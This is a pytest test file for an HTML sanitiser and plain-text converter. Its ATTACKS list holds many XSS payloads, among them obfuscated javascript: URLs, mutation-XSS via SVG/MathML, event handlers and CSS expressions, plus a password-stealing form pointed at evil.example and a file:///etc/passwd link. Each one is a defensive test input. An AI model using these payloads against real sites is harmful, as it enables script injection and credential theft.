"""Tests for litfass.richtext.sanitize and plain_text (no Django, no database)."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from litfass.richtext import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    CLEAN_CONTENT_TAGS,
    LINK_REL,
    plain_text,
    sanitize,
    text_to_html,
)

# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------

_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


class _Inspector(HTMLParser):
    """Record everything markup-like in sanitised output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"unknown declaration {data!r}")


def assert_conforms_to_policy(output: str) -> None:
    """Independently check that ``output`` only uses the allow-listed markup."""
    inspector = _Inspector()
    inspector.feed(output)
    inspector.close()
    assert inspector.other == []
    for tag, attrs in inspector.elements:
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ALLOWED_ATTRIBUTES["*"]
        if tag == "a":
            allowed |= {"rel"}
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name == "rel":
                assert value == LINK_REL
            if name == "href":
                assert value is not None
                # What a browser would look at: control characters and
                # whitespace are ignored/stripped when finding the scheme.
                squashed = re.sub(r"[\x00-\x20]", "", value).lower()
                match = _SCHEME.match(squashed)
                if match:
                    assert match.group(1) in ALLOWED_URL_SCHEMES, value


# ---------------------------------------------------------------------------
# 1. Attacks
# ---------------------------------------------------------------------------

_IMG_ONERROR = "<img src=x onerror=alert(1)>"

# (input, substrings that must not appear in the output, case-insensitively)
ATTACKS = [
    # --- event handlers ----------------------------------------------------
    pytest.param(_IMG_ONERROR, ["onerror", "<img", "alert"], id="img-onerror"),
    pytest.param('<p onclick="alert(1)">Hallo</p>', ["onclick", "alert"], id="p-onclick"),
    pytest.param(
        '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
        ["onmouseover", "alert"],
        id="a-onmouseover",
    ),
    pytest.param("<body onload=alert(1)>x", ["onload", "<body", "alert"], id="body-onload"),
    pytest.param("<svg onload=alert(1)>", ["onload", "<svg", "alert"], id="svg-onload"),
    pytest.param(
        "<details open ontoggle=alert(1)>x</details>",
        ["ontoggle", "<details", "alert"],
        id="details-ontoggle",
    ),
    pytest.param("<P ONCLICK=alert(1)>x</P>", ["onclick", "alert"], id="uppercase-handler"),
    pytest.param("<b onmouseover=alert(1)>x</b>", ["onmouseover", "alert"], id="unquoted-handler"),
    pytest.param("<img/src=x/onerror=alert(1)>", ["onerror", "<img"], id="slash-separated-attrs"),
    pytest.param(
        '<video><source onerror="alert(1)"></video>',
        ["onerror", "<video", "<source"],
        id="video-source-onerror",
    ),
    pytest.param(
        "<marquee onstart=alert(1)>x</marquee>", ["onstart", "<marquee"], id="marquee-onstart"
    ),
    pytest.param(
        "<input autofocus onfocus=alert(1)>", ["onfocus", "<input", "alert"], id="input-onfocus"
    ),
    pytest.param(
        "<frameset onload=alert(1)><frame src=x></frameset>",
        ["onload", "<frame"],
        id="frameset-onload",
    ),
    # --- dangerous URL schemes ----------------------------------------------
    pytest.param('<a href="javascript:alert(1)">x</a>', ["javascript"], id="js-url"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript"], id="js-url-mixed-case"),
    pytest.param(
        '<a href="&#106;avascript:alert(1)">x</a>', ["javascript", "alert"], id="js-url-dec-entity"
    ),
    pytest.param(
        '<a href="&#x6A;avascript:alert(1)">x</a>', ["javascript", "alert"], id="js-url-hex-entity"
    ),
    pytest.param(
        '<a href="&#106avascript:alert(1)">x</a>',
        ["javascript", "alert"],
        id="js-url-entity-no-semicolon",
    ),
    pytest.param(
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
        '&#0000049&#0000041">x</a>',
        ["javascript", "alert"],
        id="js-url-fully-padded-entities",
    ),
    pytest.param(
        '<a href="jav&#x09;ascript:alert(1)">x</a>', ["ascript", "alert"], id="js-url-tab-entity"
    ),
    pytest.param('<a href="jav\tascript:alert(1)">x</a>', ["ascript", "alert"], id="js-url-tab"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', ["script", "alert"], id="js-url-newline"),
    pytest.param(
        '<a href="java&#x0A;script:alert(1)">x</a>', ["script", "alert"], id="js-url-lf-entity"
    ),
    pytest.param(
        '<a href="   javascript:alert(1)">x</a>', ["javascript", "alert"], id="js-url-leading-space"
    ),
    pytest.param(
        '<a href="&#x20;javascript:alert(1)">x</a>',
        ["javascript", "alert"],
        id="js-url-leading-space-entity",
    ),
    pytest.param(
        '<a href="\x01javascript:alert(1)">x</a>',
        ["javascript", "alert"],
        id="js-url-leading-control-char",
    ),
    pytest.param(
        '<a href="java\x00script:alert(1)">x</a>',
        ["script", "alert", "href"],
        id="js-url-null-byte",
    ),
    pytest.param(
        '<a href="java&#0;script:alert(1)">x</a>',
        ["script", "alert", "href"],
        id="js-url-null-entity",
    ),
    pytest.param(
        '<a href="javascript&colon;alert(1)">x</a>',
        ["javascript", "alert"],
        id="js-url-colon-entity",
    ),
    pytest.param(
        '<a href="javascript&#58;alert(1)">x</a>', ["javascript", "alert"], id="js-url-58-entity"
    ),
    # Percent-encoded colon: only a relative path, but never a javascript: URL.
    pytest.param('<a href="javascript%3Aalert(1)">x</a>', ["javascript:"], id="js-url-percent"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "msgbox"], id="vbscript-url"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        ["data:", "base64"],
        id="data-url",
    ),
    pytest.param(
        '<a href="&#100;ata:text/html,<script>alert(1)</script>">x</a>',
        ["data:", "<script", "alert"],
        id="data-url-entity",
    ),
    pytest.param('<a href="file:///etc/passwd">x</a>', ["file:", "passwd"], id="file-url"),
    pytest.param(
        '<blockquote cite="javascript:alert(1)">x</blockquote>',
        ["cite", "javascript"],
        id="blockquote-cite-js",
    ),
    pytest.param('<img src="javascript:alert(1)">', ["<img", "javascript"], id="img-src-js"),
    pytest.param(
        '<img srcset="x 1x, javascript:alert(1) 2x">', ["srcset", "javascript"], id="img-srcset"
    ),
    # --- forms ----------------------------------------------------------------
    pytest.param(
        '<button formaction="javascript:alert(1)">Senden</button>',
        ["formaction", "<button", "javascript"],
        id="button-formaction",
    ),
    pytest.param(
        '<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password"><button>Login</button></form>',
        ["<form", "action", "<input", "password", "<button", "evil.example"],
        id="phishing-form",
    ),
    pytest.param(
        '<isindex action="javascript:alert(1)" type="image">',
        ["isindex", "javascript"],
        id="isindex",
    ),
    pytest.param(
        "<keygen autofocus onfocus=alert(1)>", ["keygen", "onfocus", "alert"], id="keygen"
    ),
    # --- SVG / MathML / mutation XSS -----------------------------------------
    pytest.param(
        "<svg><script>alert(1)</script></svg>", ["<svg", "<script", "alert"], id="svg-script"
    ),
    pytest.param(
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        ["<svg", "<style", "onerror", "<img"],
        id="svg-style-img",
    ),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        ["xlink", "javascript", "<svg"],
        id="svg-xlink-href",
    ),
    pytest.param(
        '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
        ["animate", "javascript"],
        id="svg-animate-href",
    ),
    pytest.param(
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        ["onerror", "<img", "<svg", "<style"],
        id="svg-p-style-mxss",
    ),
    pytest.param(
        '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></use></svg>',
        ["<use", "data:"],
        id="svg-use-data",
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ["onerror", "<img", "<math", "<mglyph", "<style"],
        id="math-mglyph-style-mxss",
    ),
    pytest.param(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',
        ["onerror", "<img", "<math", "<!--"],
        id="math-mglyph-comment-mxss",
    ),
    pytest.param(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ["onerror", "<img", "<form", "<math"],
        id="form-math-nesting-mxss",
    ),
    pytest.param(
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'
        "</maction></math>",
        ["javascript", "maction", "xlink"],
        id="math-maction-xlink",
    ),
    pytest.param(
        '<math href="javascript:alert(1)">KLICK</math>', ["javascript", "<math"], id="math-href"
    ),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        ["onerror", "<img", "<noscript"],
        id="noscript-breakout",
    ),
    pytest.param(
        '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
        ["onerror", "<img", "<noembed"],
        id="noembed-breakout",
    ),
    pytest.param(
        '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
        ["onerror", "<img", "<noframes"],
        id="noframes-breakout",
    ),
    pytest.param(
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
        ["onerror", "<img", "<textarea"],
        id="textarea-breakout",
    ),
    pytest.param(
        '<title><img title="</title><img src=x onerror=alert(1)>">',
        ["onerror", "<img", "<title"],
        id="title-breakout",
    ),
    pytest.param(
        '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
        ["onerror", "<img", "<xmp"],
        id="xmp-breakout",
    ),
    pytest.param(
        "<template><img src=x onerror=alert(1)></template>",
        ["onerror", "<img", "<template"],
        id="template",
    ),
    pytest.param(
        "<select><template><style><img src=x onerror=alert(1)>",
        ["onerror", "<img", "<select", "<template", "<style"],
        id="select-template-style",
    ),
    pytest.param(
        "<plaintext><img src=x onerror=alert(1)>", ["onerror", "<img", "plaintext"], id="plaintext"
    ),
    # --- embedding / document-level elements -----------------------------------
    pytest.param(
        '<iframe src="javascript:alert(1)"></iframe>', ["<iframe", "javascript"], id="iframe-js"
    ),
    pytest.param(
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        ["<iframe", "srcdoc", "alert"],
        id="iframe-srcdoc",
    ),
    pytest.param(
        '<iframe src="https://evil.example/"><p>Fallback</p></iframe>',
        ["<iframe", "evil.example"],
        id="iframe-external",
    ),
    pytest.param(
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        ["<object", "data:", "alert"],
        id="object-data",
    ),
    pytest.param(
        '<embed src="https://evil.example/x.swf">', ["<embed", "evil.example"], id="embed"
    ),
    pytest.param(
        '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
        ["<applet", "evil"],
        id="applet",
    ),
    pytest.param('<base href="https://evil.example/">', ["<base", "evil.example"], id="base-href"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        ["<meta", "refresh", "javascript"],
        id="meta-refresh",
    ),
    pytest.param(
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        ["<link", "stylesheet", "evil.example"],
        id="link-stylesheet",
    ),
    # --- styles and classes ---------------------------------------------------
    pytest.param(
        '<p style="width: expression(alert(1))">x</p>',
        ["style", "expression", "alert"],
        id="css-expression",
    ),
    pytest.param(
        '<div style="background-image: url(javascript:alert(1))">x</div>',
        ["style", "javascript"],
        id="css-url-js",
    ),
    pytest.param(
        '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">x</p>',
        ["binding", "evil.example"],
        id="css-moz-binding",
    ),
    pytest.param(
        '<style>@import "https://evil.example/x.css"; body { background: url("javascript:a") }'
        "</style><p>x</p>",
        ["<style", "@import", "evil.example", "javascript", "background"],
        id="style-tag-content",
    ),
    pytest.param(
        '<p class="admin-banner">Offiziell</p>', ["class", "admin-banner"], id="class-attribute"
    ),
    # --- scripts ----------------------------------------------------------------
    pytest.param('<script>alert("pwned")</script>', ["<script", "pwned", "alert"], id="script-tag"),
    pytest.param(
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        ["script", "evil.example"],
        id="script-uppercase-src",
    ),
    pytest.param('<p>x</p><script>alert("pwned")', ["<script", "pwned"], id="script-unclosed"),
    pytest.param("<scr<script>ipt>alert(1)</script>", ["<script", "<scr"], id="script-split"),
    pytest.param(
        '<p title="<script>alert(1)</script>">x</p>', ["title", "alert"], id="script-in-attribute"
    ),
    # --- comments and other parser tricks -------------------------------------
    pytest.param(
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        ["<!--", "[if", "alert", "<script"],
        id="ie-conditional-comment",
    ),
    pytest.param(
        "<!--[if]><script>alert(1)</script -->", ["<!--", "alert"], id="ie-conditional-broken"
    ),
    pytest.param(
        "<!-- --!><img src=x onerror=alert(1)> -->", ["<!--", "onerror", "<img"], id="comment-bang"
    ),
    pytest.param(
        "<!--><img src=x onerror=alert(1)>-->", ["<!--", "onerror", "<img"], id="comment-abrupt"
    ),
    pytest.param(
        "<![CDATA[<img src=x onerror=alert(1)>]]>", ["cdata", "onerror", "<img"], id="cdata"
    ),
    pytest.param("<?php system('id'); ?><p>x</p>", ["<?", "system"], id="processing-instruction"),
    pytest.param(
        "<p>x</p><img src=x onerror=alert(1)//", ["onerror", "<img"], id="unclosed-tag-at-eof"
    ),
    pytest.param(
        '<a href="https://ok.example"<img src=x onerror=alert(1)>x</a>',
        ["onerror", "<img"],
        id="malformed-attribute-soup",
    ),
    # --- link hijacking and DOM clobbering -----------------------------------------
    pytest.param(
        '<a href="https://example.org" target="_blank">x</a>', ["target", "_blank"], id="target"
    ),
    pytest.param(
        '<a id="location" name="cookie" href="https://example.org">x</a>',
        ["id=", "name=", "location", "cookie"],
        id="dom-clobbering",
    ),
    pytest.param(
        '<a href="https://example.org" rel="opener">x</a>', ['rel="opener"'], id="rel-opener"
    ),
    pytest.param(
        '<h2 id="kommentare" data-x="1" aria-hidden="true">x</h2>',
        ["id=", "data-x", "aria-hidden"],
        id="generic-attributes",
    ),
]


@pytest.mark.parametrize(("html", "forbidden"), ATTACKS)
def test_attack_is_neutralised(html: str, forbidden: list[str]) -> None:
    output = sanitize(html).lower()
    for needle in forbidden:
        assert needle.lower() not in output, f"{needle!r} survived: {output!r}"


@pytest.mark.parametrize(("html", "forbidden"), ATTACKS)
def test_attack_output_conforms_to_policy(html: str, forbidden: list[str]) -> None:
    assert_conforms_to_policy(sanitize(html))


# ---------------------------------------------------------------------------
# 2. Legitimate rich text
# ---------------------------------------------------------------------------

_A = f'rel="{LINK_REL}"'
# German typography (low and high quotes, dashes, guillemets) must survive untouched.
_TYPOGRAPHY = "Größere Straßenbäume für „Übermorgen“ – sagt Jürgen ‚leise‘ … »so« «oder so»"  # noqa: RUF001
_QUOTE = "„Zitat“ – Jürgen"

# (input, expected output); identical strings document "survives unchanged".
LEGITIMATE = [
    pytest.param("<p>Hallo Welt</p>", "<p>Hallo Welt</p>", id="paragraph"),
    pytest.param(
        "<p><strong>fett</strong> <em>kursiv</em> <u>unterstrichen</u> <s>durchgestrichen</s></p>",
        "<p><strong>fett</strong> <em>kursiv</em> <u>unterstrichen</u> <s>durchgestrichen</s></p>",
        id="marks",
    ),
    pytest.param(
        "<p><b>fett</b> und <i>kursiv</i></p>", "<p><b>fett</b> und <i>kursiv</i></p>", id="b-i"
    ),
    pytest.param(
        "<h2>Titel</h2><h3>Unter</h3><h4>Klein</h4>",
        "<h2>Titel</h2><h3>Unter</h3><h4>Klein</h4>",
        id="headings",
    ),
    pytest.param(
        "<ul><li><p>Eins</p><ul><li><p>Eins.Eins</p></li></ul></li><li><p>Zwei</p></li></ul>",
        "<ul><li><p>Eins</p><ul><li><p>Eins.Eins</p></li></ul></li><li><p>Zwei</p></li></ul>",
        id="nested-lists",
    ),
    pytest.param(
        '<ol start="3"><li><p>Drei</p></li><li><p>Vier</p></li></ol>',
        '<ol start="3"><li><p>Drei</p></li><li><p>Vier</p></li></ol>',
        id="ordered-list-start",
    ),
    pytest.param(
        "<blockquote><p>Wer nicht wagt, der nicht gewinnt.</p></blockquote>",
        "<blockquote><p>Wer nicht wagt, der nicht gewinnt.</p></blockquote>",
        id="blockquote",
    ),
    pytest.param(
        '<p><a href="https://example.org/pfad?a=1&amp;b=2">Link</a></p>',
        f'<p><a href="https://example.org/pfad?a=1&amp;b=2" {_A}>Link</a></p>',
        id="https-link-gets-rel",
    ),
    pytest.param(
        '<p><a href="http://example.org">Link</a></p>',
        f'<p><a href="http://example.org" {_A}>Link</a></p>',
        id="http-link",
    ),
    pytest.param(
        '<p><a target="_blank" rel="noopener noreferrer nofollow" class="link" '
        'href="https://example.org">TipTap</a></p>',
        f'<p><a href="https://example.org" {_A}>TipTap</a></p>',
        id="tiptap-link-markup",
    ),
    pytest.param(
        '<a href="mailto:redaktion@example.org">Schreib uns</a>',
        f'<a href="mailto:redaktion@example.org" {_A}>Schreib uns</a>',
        id="mailto-link",
    ),
    pytest.param(
        '<a href="tel:+49301234567">Anrufen</a>',
        f'<a href="tel:+49301234567" {_A}>Anrufen</a>',
        id="tel-link",
    ),
    pytest.param(
        '<a href="/orte/kreuzberg">Kreuzberg</a>',
        f'<a href="/orte/kreuzberg" {_A}>Kreuzberg</a>',
        id="relative-link",
    ),
    pytest.param(
        '<a href="#kommentare">Kommentare</a>',
        f'<a href="#kommentare" {_A}>Kommentare</a>',
        id="fragment-link",
    ),
    pytest.param(
        f"<p>{_TYPOGRAPHY}</p>",
        f"<p>{_TYPOGRAPHY}</p>",
        id="umlauts-and-typographic-quotes",
    ),
    pytest.param("<p>5&nbsp;km</p>", "<p>5&nbsp;km</p>", id="nbsp-entity"),
    pytest.param("<p>5\u00a0km</p>", "<p>5&nbsp;km</p>", id="nbsp-character"),
    pytest.param(
        "<p>Zeile 1<br>Zeile 2<br/>Zeile 3</p>",
        "<p>Zeile 1<br>Zeile 2<br>Zeile 3</p>",
        id="line-breaks",
    ),
    pytest.param("<p>a</p><hr><p>b</p>", "<p>a</p><hr><p>b</p>", id="horizontal-rule"),
    pytest.param(
        "<figure><blockquote><p>Zitat</p></blockquote><figcaption>Quelle</figcaption></figure>",
        "<figure><blockquote><p>Zitat</p></blockquote><figcaption>Quelle</figcaption></figure>",
        id="figure",
    ),
    pytest.param(
        '<table><tbody><tr><th colspan="2" rowspan="1"><p>Kopf</p></th></tr>'
        "<tr><td><p>a</p></td><td><p>b</p></td></tr></tbody></table>",
        '<table><tbody><tr><th colspan="2" rowspan="1"><p>Kopf</p></th></tr>'
        "<tr><td><p>a</p></td><td><p>b</p></td></tr></tbody></table>",
        id="table",
    ),
    pytest.param(
        "<table><tr><td>a</td></tr></table>",
        "<table><tbody><tr><td>a</td></tr></tbody></table>",
        id="table-tbody-inserted",
    ),
    pytest.param(
        "<p>Mit <code>git pull</code> aktualisieren</p>",
        "<p>Mit <code>git pull</code> aktualisieren</p>",
        id="inline-code",
    ),
    pytest.param(
        "<p>CO<sub>2</sub> pro m<sup>2</sup></p>",
        "<p>CO<sub>2</sub> pro m<sup>2</sup></p>",
        id="sub-sup",
    ),
    pytest.param(
        "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>",
        "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>",
        id="escaped-text-stays-escaped",
    ),
    pytest.param("Nur Text", "Nur Text", id="bare-text"),
    pytest.param("Müller & Söhne", "Müller &amp; Söhne", id="bare-ampersand-escaped"),
    pytest.param("<p>🎉 Stadtfest!</p>", "<p>🎉 Stadtfest!</p>", id="emoji"),
    pytest.param("<p></p>", "<p></p>", id="empty-tiptap-document"),
    # --- expected changes ---------------------------------------------------------
    pytest.param("<P><STRONG>laut</STRONG></P>", "<p><strong>laut</strong></p>", id="uppercase"),
    pytest.param("<p>offen", "<p>offen</p>", id="unclosed-paragraph"),
    pytest.param("<h1>Zu groß</h1>", "Zu groß", id="h1-unwrapped"),
    pytest.param(
        '<div><p><span style="color: red">rot</span></p></div>', "<p>rot</p>", id="span-div-removed"
    ),
    pytest.param(
        '<p class="MsoNormal"><o:p></o:p>Aus Word<o:p></o:p></p>',
        "<p>Aus Word</p>",
        id="word-paste",
    ),
    pytest.param("\n  <p>x</p>\n\n", "<p>x</p>", id="outer-whitespace-trimmed"),
    pytest.param("<p>a<!-- Notiz -->b</p>", "<p>ab</p>", id="comment-removed"),
    pytest.param(
        '<ol start="drei"><li>x</li></ol>', "<ol><li>x</li></ol>", id="non-numeric-start-dropped"
    ),
    pytest.param(
        '<table><tr><td colspan=" 2 " rowspan="0">x</td></tr></table>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        id="span-attributes-normalised",
    ),
    pytest.param(
        '<a href="https://example.org/?q=&quot;x&quot;">q</a>',
        f'<a href="https://example.org/?q=&quot;x&quot;" {_A}>q</a>',
        id="quote-in-href",
    ),
]


@pytest.mark.parametrize(("html", "expected"), LEGITIMATE)
def test_legitimate_rich_text_survives(html: str, expected: str) -> None:
    assert sanitize(html) == expected


@pytest.mark.parametrize(("html", "expected"), LEGITIMATE)
def test_legitimate_output_conforms_to_policy(html: str, expected: str) -> None:
    assert_conforms_to_policy(sanitize(html))


# ---------------------------------------------------------------------------
# 3. Idempotence
# ---------------------------------------------------------------------------

# Inputs where a single nh3 pass is *not* a fixed point, because removing an
# element leaves a tree the HTML parser restructures on the next parse.
NOT_ROUND_TRIPPABLE = [
    pytest.param("<h2><span><h3>x</h3></span></h2>", id="heading-in-heading"),
    pytest.param("<h2><b><h3><i><h4>x</h4></i></h3></b></h2>", id="heading-chain"),
    # Each parse/serialise round trip eats one newline after <pre>; this is why
    # <pre> is not allowed (with it, this case would need nine passes).
    pytest.param("<pre>\n\n\n\n\n\n\n\nfoo</pre>", id="pre-leading-newlines"),
    pytest.param(
        "</a><h4><table><svg><ol start=2><caption></td><h2><p>", id="fuzz-found-three-passes"
    ),
    pytest.param("<p><span><table><tr><td>x</td></tr></table></span></p>", id="table-in-p"),
]


@pytest.mark.parametrize("html", [*(p.values[0] for p in ATTACKS + LEGITIMATE)])
def test_idempotent_over_tables(html: str) -> None:
    once = sanitize(html)
    assert sanitize(once) == once


@pytest.mark.parametrize("html", NOT_ROUND_TRIPPABLE)
def test_idempotent_where_a_single_pass_is_not(html: str) -> None:
    once = sanitize(html)
    assert sanitize(once) == once
    assert_conforms_to_policy(once)


_SOUP = [
    "<p>", "</p>", "<h2>", "</h2>", "<h3>", "<h4>", "<span>", "</span>", "<div>", "</div>",
    '<a href="/x">', '<a href="javascript:alert(1)">', "</a>", "<ul>", "<li>", "</li>", "</ul>",
    '<ol start="2">', "<table>", "<tr>", "<td>", "</td>", "</table>", "<caption>", "<pre>",
    "\n", "</pre>", "x", " ", "&nbsp;", "<b>", "</b>", "<i>", "<svg>", "</svg>", "<math>",
    "<mtext>", "<mglyph>", "<style>", "</style>", "<br>", "<hr>", "<blockquote>", "<figure>",
    "<figcaption>", "<s>", "<em>", "<code>", "<select>", "<textarea>", "<form>", "</form>",
    "<!--", "-->", "<noscript>", "</noscript>", "<template>", "<img src=x onerror=alert(1)>",
    "<script>", "</script>", '"', "'", "<", ">", "&",
]  # fmt: skip


def test_idempotent_and_conforming_on_random_tag_soup() -> None:
    rng = random.Random(20240611)
    for _ in range(3000):
        html = "".join(rng.choice(_SOUP) for _ in range(rng.randint(1, 30)))
        once = sanitize(html)
        assert sanitize(once) == once, html
        assert_conforms_to_policy(once)
        assert "onerror" not in once, html


# ---------------------------------------------------------------------------
# 4. Link rel
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<a href="https://example.org" rel="opener">x</a>', id="opener"),
        pytest.param('<a href="https://example.org" REL="noopener">x</a>', id="partial-upper"),
        pytest.param('<a rel="" href="https://example.org">x</a>', id="empty"),
        pytest.param('<a href="https://example.org" rel="me" rel="opener">x</a>', id="duplicate"),
        pytest.param('<a href="https://example.org">x</a>', id="missing"),
        pytest.param(f'<a href="https://example.org" rel="{LINK_REL}">x</a>', id="already-correct"),
    ],
)
def test_link_rel_is_forced(html: str) -> None:
    assert sanitize(html) == f'<a href="https://example.org" rel="{LINK_REL}">x</a>'


def test_link_rel_value() -> None:
    assert LINK_REL == "noopener noreferrer nofollow"


# ---------------------------------------------------------------------------
# Edge cases and the policy itself
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("", id="empty"),
        pytest.param(None, id="none"),
        pytest.param("   \n\t ", id="whitespace"),
        pytest.param("<!-- nur ein Kommentar -->", id="only-comment"),
        pytest.param("<script>alert(1)</script>", id="only-script"),
    ],
)
def test_empty_results(html: str | None) -> None:
    assert sanitize(html) == ""


def test_policy_has_no_dangerous_tags() -> None:
    dangerous = {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
        "meta", "link", "form", "input", "button", "select", "textarea", "option", "svg", "math",
        "template", "noscript", "img", "video", "audio", "source", "h1", "html", "head", "body",
    }  # fmt: skip
    assert not dangerous & ALLOWED_TAGS
    assert not ALLOWED_TAGS & CLEAN_CONTENT_TAGS


def test_policy_has_no_dangerous_attributes() -> None:
    attributes = set().union(*ALLOWED_ATTRIBUTES.values())
    assert not attributes & {"class", "style", "id", "name", "target", "rel", "src", "srcdoc"}
    assert not {a for a in attributes if a.startswith("on")}
    assert ALLOWED_ATTRIBUTES["*"] == frozenset()
    assert set(ALLOWED_ATTRIBUTES) - {"*"} <= ALLOWED_TAGS


@pytest.mark.parametrize("tag", sorted(CLEAN_CONTENT_TAGS))
def test_clean_content_tags_lose_their_content(tag: str) -> None:
    output = sanitize(f"<p>vor</p><{tag}>INHALT</{tag}><p>nach</p>")
    # <plaintext> cannot be closed: it swallows the rest of the document.
    assert output == ("<p>vor</p>" if tag == "plaintext" else "<p>vor</p><p>nach</p>")


def test_url_schemes() -> None:
    assert {"http", "https", "mailto", "tel"} == ALLOWED_URL_SCHEMES


# ---------------------------------------------------------------------------
# plain_text
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<p>Erster Absatz.</p><p>Zweiter</p>", "Erster Absatz. Zweiter", id="blocks"),
        pytest.param("<p>Wort<b>teil</b></p>", "Wortteil", id="inline-no-break"),
        pytest.param("<p>Müller &amp; Söhne &lt;3</p>", "Müller & Söhne <3", id="entities"),
        pytest.param("<p>5&nbsp;km</p>", "5 km", id="nbsp-collapsed"),
        pytest.param("Zeile 1<br>Zeile 2", "Zeile 1 Zeile 2", id="br"),
        pytest.param("<ul><li>eins</li><li>zwei</li></ul>", "eins zwei", id="list"),
        pytest.param("<h2>Titel</h2>Text", "Titel Text", id="heading"),
        pytest.param("<p>  viel \n\t  Platz  </p>", "viel Platz", id="whitespace-runs"),
        pytest.param('<a href="https://example.org">Hier</a> lesen', "Hier lesen", id="link"),
        pytest.param(f"<p>{_QUOTE}</p>", _QUOTE, id="typography"),
        pytest.param(
            '<p>Hallo</p><script>alert("x")</script><style>p { color: red }</style>',
            "Hallo",
            id="script-style-content-dropped",
        ),
        pytest.param("<p>a<!-- geheim -->b</p>", "ab", id="comment-dropped"),
        pytest.param("<svg><text>Vektor</text></svg>Rest", "Rest", id="svg-dropped"),
        pytest.param("&lt;script&gt;", "<script>", id="result-is-text-not-html"),
        pytest.param("<table><tr><td>a</td><td>b</td></tr></table>", "a b", id="table-cells"),
        pytest.param("<p></p>", "", id="empty-paragraph"),
        pytest.param("", "", id="empty"),
        pytest.param(None, "", id="none"),
    ],
)
def test_plain_text(html: str | None, expected: str) -> None:
    assert plain_text(html) == expected


@pytest.mark.parametrize("html", [*(p.values[0] for p in ATTACKS + LEGITIMATE)])
def test_plain_text_only_sees_sanitised_content(html: str) -> None:
    text = plain_text(html)
    assert text == plain_text(sanitize(html))
    assert text == text.strip()
    assert "  " not in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Erste Zeile\nzweite Zeile\n\nNeuer Absatz",
            "<p>Erste Zeile<br>zweite Zeile</p><p>Neuer Absatz</p>",
        ),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("<p>schon HTML</p>", "<p>schon HTML</p>"),
        ("", ""),
        (None, ""),
    ],
)
def test_plain_text_typed_without_the_editor_becomes_paragraphs(text, expected):
    assert text_to_html(text) == expected
    assert sanitize(text_to_html(text)) == expected
